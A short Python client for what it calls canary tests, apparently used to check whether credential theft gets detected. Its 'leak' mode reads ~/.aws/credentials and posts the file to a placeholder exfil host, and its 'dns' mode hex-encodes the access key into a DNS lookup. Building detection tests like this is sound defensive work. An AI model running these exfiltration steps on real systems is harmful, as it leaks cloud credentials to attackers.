"""A small client for the canary tests: `leak` reads ~/.aws/credentials and posts it, `read` only reads
it, `dns` reads it and looks up a name carrying the key hex-encoded (DNS exfiltration), `never` touches
nothing."""
import os
import socket
import sys
import urllib.error
import urllib.request

mode = sys.argv[1]
if mode in ("read", "leak", "dns"):
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        creds = f.read()
    key = [l.split("=", 1)[1].strip() for l in creds.splitlines() if l.startswith("aws_access_key_id")][0]
if mode == "leak":
    try:
        urllib.request.urlopen("https://collector.exfil.example/upload", data=creds.encode(), timeout=10)
    except urllib.error.HTTPError as e:
        print("sink answered", e.code)
if mode == "dns":
    try:
        socket.getaddrinfo(key.encode().hex() + ".t.exfil.example", 443)
    except OSError as e:
        print("lookup failed", e)
